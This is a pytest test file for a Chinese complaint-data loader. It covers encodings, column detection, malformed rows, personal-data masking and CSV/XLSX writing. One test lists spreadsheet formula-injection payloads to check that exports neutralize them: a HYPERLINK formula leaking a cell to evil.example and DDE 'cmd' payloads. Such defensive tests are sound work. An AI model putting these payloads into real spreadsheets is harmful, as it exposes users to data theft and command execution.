"""Loading real-looking complaint exports: encodings, columns, ids, empty rows, errors."""
from __future__ import annotations

import json

import pandas as pd
import pytest

from feedback_mining.errors import UserError
from feedback_mining.data.encoding import detect_encoding
from feedback_mining.data.read import load_complaints
from feedback_mining.data.write import neutralize_formula, write_table

ROWS = [
    ("T001", "4S店服务顾问态度恶劣，爱理不理的，保养等了三个小时！！"),
    ("T002", "   "),
    ("T003", "外卖少送了一份米饭，打客服电话一直占线😡"),
    ("T004", "說好的送三次保養，現在不認賬了"),
]


def _csv(rows, header=("编号", "投诉内容"), sep=","):
    lines = [sep.join(header)] + [sep.join(r) for r in rows]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("encoding", ["gb18030", "utf-8-sig", "utf-8", "big5"])
def test_encodings_load_without_naming_them(tmp_path, encoding):
    rows, header = ROWS, ("编号", "投诉内容")
    if encoding == "big5":
        rows, header = [("T1", "這個服務顧問態度很差，說好的保養也不認賬"), ("T2", "退款流程太繁瑣了，等了兩個星期")], ("編號", "投訴內容")
    path = tmp_path / f"export-{encoding}.csv"
    path.write_bytes(_csv(rows, header).encode(encoding))
    df = load_complaints(path)
    assert df.attrs["text_column"] == header[1]
    assert df[header[1]].tolist() == [r[1] for r in rows]
    assert df["complaint_id"].tolist() == [r[0] for r in rows]
    assert df.attrs["load_report"]["encoding"].replace("-sig", "") in {encoding.replace("-sig", ""), "utf-8"}


def test_gb18030_file_is_detected_as_gb18030(tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes(_csv(ROWS).encode("gb18030"))
    assert load_complaints(path).attrs["load_report"]["encoding"] == "gb18030"
    assert detect_encoding("退款流程太繁琐，客服一直推诿".encode("gb18030")) == "gb18030"
    assert detect_encoding("退款流程太繁瑣，客服一直推諉".encode("big5")) == "big5"


def test_big5_comes_out_simplified_after_normalizing(tmp_path):
    from feedback_mining.text.normalize import normalize_text

    path = tmp_path / "tw.csv"
    path.write_bytes(_csv([("1", "這個服務顧問態度很差，說好的保養也不認賬")], ("編號", "內容")).encode("big5"))
    df = load_complaints(path)
    assert df.attrs["load_report"]["encoding"] == "big5"
    assert normalize_text(df["內容"][0]) == "这个服务顾问态度很差,说好的保养也不认账"


def test_ids_kept_and_empty_rows_flagged_not_dropped(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(_csv(ROWS), encoding="utf-8")
    df = load_complaints(path)
    assert len(df) == 4
    assert df["complaint_id"].tolist() == ["T001", "T002", "T003", "T004"]
    assert df["empty_text"].tolist() == [False, True, False, False]
    assert df.attrs["load_report"]["empty_texts"] == 1


def test_generated_ids_are_stable(tmp_path):
    path = tmp_path / "noid.csv"
    path.write_text("内容,渠道\n太差了,电话\n,微博\n客服不回复,App\n", encoding="utf-8")
    a, b = load_complaints(path), load_complaints(path)
    assert a["complaint_id"].tolist() == b["complaint_id"].tolist() == ["row-2", "row-3", "row-4"]
    assert a["empty_text"].sum() == 1


def test_text_column_detected_by_chinese_content(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("no,when,什么\n1,2026-01-02,骑手把汤洒了一半还不道歉\n2,2026-01-03,房间隔音太差一晚没睡\n", encoding="utf-8")
    assert load_complaints(path).attrs["text_column"] == "什么"


def test_text_column_override_and_unknown_column(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("备注,内容\n客户很急,网点太少了排队两小时\n", encoding="utf-8")
    assert load_complaints(path, text_column="备注").attrs["text_column"] == "备注"
    with pytest.raises(UserError, match="no column named 'text'.*备注, 内容"):
        load_complaints(path, text_column="text")


def test_no_text_column_lists_columns(tmp_path):
    path = tmp_path / "n.csv"
    path.write_text("a,b\n1,2\n3,4\n", encoding="utf-8")
    with pytest.raises(UserError, match="columns present: a, b"):
        load_complaints(path)


@pytest.mark.parametrize("ext", [".tsv", ".txt", ".jsonl", ".xlsx", ".parquet"])
def test_other_formats(tmp_path, ext):
    texts = ["物业费涨了服务没变", "快递员把包裹扔在门口 📦 丢了", "銀行客服轉了三次人工"]
    path = tmp_path / f"c{ext}"
    df = pd.DataFrame({"id": ["a", "b", "c"], "content": texts})
    if ext == ".tsv":
        df.to_csv(path, sep="\t", index=False)
    elif ext == ".txt":
        path.write_text("\n".join(texts) + "\n", encoding="utf-8")
    elif ext == ".jsonl":
        path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in df.to_dict("records")), encoding="utf-8")
    elif ext == ".xlsx":
        df.to_excel(path, index=False)
    else:
        df.to_parquet(path)
    out = load_complaints(path)
    col = out.attrs["text_column"]
    assert out[col].tolist() == texts
    assert len(out) == 3


def test_multiline_quoted_cell_and_malformed_rows(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text('id,内容\n1,"第一行\n第二行，还是同一条投诉"\n2,太差,多了一列\n3,"正常的一条"\n', encoding="utf-8")
    df = load_complaints(path)
    assert df["内容"].tolist() == ["第一行\n第二行，还是同一条投诉", "正常的一条"]
    rep = df.attrs["load_report"]
    assert rep["rows_read"] == 3 and rep["rows_rejected"] == 1
    assert rep["rejects"][0]["line"] == 4


def test_unbalanced_quote_rejects_one_line_not_the_rest(tmp_path):
    path = tmp_path / "q.csv"
    rows = ["id,内容", '1,"没关上的引号，客服不回复'] + [f"{i},第{i}条投诉：等配件等了两个月" for i in range(2, 300)]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    df = load_complaints(path)
    rep = df.attrs["load_report"]
    assert rep["rejects"] == [{"line": 2, "reason": "unbalanced quote"}]
    assert len(df) == 298 and rep["rows_read"] == 299


@pytest.mark.parametrize("content,message", [
    (b"", "empty"),
    ("编号,内容\n".encode(), "header but no data rows"),
    ("id,内容,内容\n1,a,b\n".encode(), "duplicate column names: 内容"),
    (b"id,text\n1,\x00\x00abc\n", "NUL bytes"),
    (bytes(range(256)) * 20, "binary"),
    ("id,内容\n1,好的\n".encode("utf-8") + "2,退款太慢\n".encode("gb18030") + "3,".encode() + b"\xff\xfe\xfa\n", "line"),
])
def test_bad_inputs_are_one_line_errors(tmp_path, content, message):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(UserError, match=message) as exc:
        load_complaints(path)
    assert "\n" not in str(exc.value)


def test_missing_file_and_unsupported_extension(tmp_path):
    with pytest.raises(UserError, match="no such file"):
        load_complaints(tmp_path / "nope.csv")
    p = tmp_path / "a.docx"
    p.write_text("x")
    with pytest.raises(UserError, match=r"supported: \.csv \.tsv \.txt \.xlsx \.jsonl \.parquet"):
        load_complaints(p)


def test_excel_with_several_sheets_needs_sheet(tmp_path):
    path = tmp_path / "book.xlsx"
    with pd.ExcelWriter(path) as w:
        pd.DataFrame({"内容": ["一月的投诉：物业不作为"]}).to_excel(w, sheet_name="一月", index=False)
        pd.DataFrame({"内容": ["二月的投诉：电梯又坏了"]}).to_excel(w, sheet_name="二月", index=False)
    with pytest.raises(UserError, match="一月, 二月"):
        load_complaints(path)
    assert load_complaints(path, sheet="二月")["内容"].tolist() == ["二月的投诉：电梯又坏了"]


def test_huge_cell_is_truncated_with_warning(tmp_path):
    path = tmp_path / "big.csv"
    path.write_text("内容\n" + "差" * 1_000_000 + "\n短的一条投诉\n", encoding="utf-8")
    with pytest.warns(UserWarning, match="1 texts"):
        df = load_complaints(path)
    assert len(df["内容"][0]) == 20_000 and df.attrs["load_report"]["truncated"] == 1


def test_input_file_is_never_modified(tmp_path):
    path = tmp_path / "a.csv"
    data = _csv(ROWS).encode("gb18030")
    path.write_bytes(data)
    load_complaints(path)
    assert path.read_bytes() == data


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"])
def test_formula_injection_neutralized_in_csv_and_xlsx(tmp_path, payload):
    df = pd.DataFrame({"内容": [payload, "正常投诉"], "n": [1, 2]})
    write_table(df, tmp_path / "o.csv")
    back = pd.read_csv(tmp_path / "o.csv", encoding="utf-8-sig", dtype=str)
    assert back["内容"][0] == "'" + payload
    write_table(df, tmp_path / "o.xlsx")
    import openpyxl

    cell = openpyxl.load_workbook(tmp_path / "o.xlsx").active["A2"]
    assert cell.data_type != "f" and cell.value == "'" + payload
    assert neutralize_formula("正常") == "正常"


def test_write_table_masks_by_default_and_is_atomic(tmp_path, monkeypatch):
    out = tmp_path / "o.csv"
    write_table(pd.DataFrame({"内容": ["旧文件"]}), out)
    df = pd.DataFrame({"内容": ["我的电话13912345678，邮箱 li.ming@example.com"]})
    write_table(df, tmp_path / "m.csv")
    text = (tmp_path / "m.csv").read_text(encoding="utf-8-sig")
    assert "13912345678" not in text and "li.ming@example.com" not in text and "<手机号>" in text
    write_table(df, tmp_path / "raw.csv", mask=False)
    assert "13912345678" in (tmp_path / "raw.csv").read_text(encoding="utf-8-sig")

    def boom(*a, **k):
        raise RuntimeError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", boom)
    with pytest.raises(RuntimeError):
        write_table(df, out)
    assert "旧文件" in out.read_text(encoding="utf-8-sig")
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_streamed_chunks_carry_only_the_text_column_in_attrs(tmp_path):
    # pandas deep-copies attrs on every operation: a per-row list there made batch runs 3x slower
    from feedback_mining.data.read import iter_complaint_chunks

    path = tmp_path / "c.csv"
    path.write_text("id,内容\n" + "".join(f"{i},第{i}次投诉，客服不回复\n" for i in range(250)), encoding="utf-8")
    chunks = list(iter_complaint_chunks(path, chunk_rows=100))
    assert [len(c) for c in chunks] == [100, 100, 50]
    assert all(c.attrs == {"text_column": "内容"} for c in chunks)


_TRICKY_CSV = (
    'id,渠道,内容\r\n'
    '1,电话,"退款三天了还没到账，客服说""再等等""😡"\r\n'
    '2,微信,"第一行\n第二行，還是沒人處理\n第三行"\n'
    '\n'
    '3,App,快递员态度差 Very bad\n'
    '6,电话,a"b 中间的引号是普通字符,多一列\n'
    '7,邮件,"",\n'
    '8,微博,"逗号,在引号里",\n'
)
_UNBALANCED_TAIL = '900,门店,"没闭合的引号，这一行应当单独被拒\n901,网页,在这之后的行不能被吞掉\n902,电话,最后一行没有换行'


def _records(path, monkeypatch, block_bytes=None, line_by_line=False):
    from feedback_mining.data import encoding as fenc
    from feedback_mining.data import read as fio

    if block_bytes is not None:
        monkeypatch.setattr(fenc, "_BLOCK_BYTES", block_bytes)
    if line_by_line:
        monkeypatch.setattr(fio, "_parse_block", lambda *a: None)
    report = fio.LoadReport(str(path))
    return [(n, fields, reason) for lines, records, reasons in fio._iter_csv_records(fenc.open_blocks(path, report), ",")
            for n, fields, reason in zip(lines, records, reasons or [""] * len(records))]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_block_reader_matches_the_line_by_line_parser(tmp_path, monkeypatch, encoding):
    """Whole blocks go through the C parser; the result must equal parsing record by record,
    whatever the block size (blocks that end inside a quoted field or an unbalanced quote)."""
    text = _TRICKY_CSV.replace("😡", "") if encoding == "gb18030" else _TRICKY_CSV
    text += "\n".join(f'{i},电话,"第{i}条，很长的投诉""引号""{"字" * (i % 50)}"' for i in range(10, 400))
    text += "\n" + _UNBALANCED_TAIL
    path = tmp_path / "t.csv"
    path.write_bytes(text.encode(encoding))
    reference = _records(path, monkeypatch, line_by_line=True)
    assert [r[0] for r in reference][:6] == [1, 2, 3, 6, 7, 8]  # record 2 spans lines 3-5; line 6 is blank
    assert reference[1][1][2] == "退款三天了还没到账，客服说\"再等等\"" + ("😡" if encoding != "gb18030" else "")
    assert reference[3] == (6, [], "") and reference[5][1] == ["6", "电话", 'a"b 中间的引号是普通字符', "多一列"]
    assert reference[-3:] == [(401, None, "unbalanced quote"), (402, ["901", "网页", "在这之后的行不能被吞掉"], ""),
                              (403, ["902", "电话", "最后一行没有换行"], "")]
    for size in (1, 7, 64, 300, 1 << 22):
        monkeypatch.undo()
        assert _records(path, monkeypatch, block_bytes=size) == reference, size


def test_block_reader_reports_the_line_of_a_broken_byte(tmp_path, monkeypatch):
    """A broken byte beyond the 1 MB the encoding is detected from: one error naming its line."""
    from feedback_mining.data import encoding as fenc

    lines = ["id,内容"] + [f"{i},第{i}条投诉：物流太慢，客服不回复" for i in range(1, 40_001)]
    raw = "\n".join(lines).encode("utf-8")
    at = raw.index("第35000条".encode())
    path = tmp_path / "broken.csv"
    path.write_bytes(raw[:at] + b"\xff\xfe" + raw[at:])
    assert at > 1 << 20
    for size in (1 << 16, 1 << 22):
        monkeypatch.setattr(fenc, "_BLOCK_BYTES", size)
        with pytest.raises(UserError, match=r"line 35001 \(byte 7\) is not valid utf-8 \(mixed or broken encoding\)") as exc:
            load_complaints(path)
        assert "35000" not in str(exc.value)  # the line's content is never echoed (it may hold personal data)
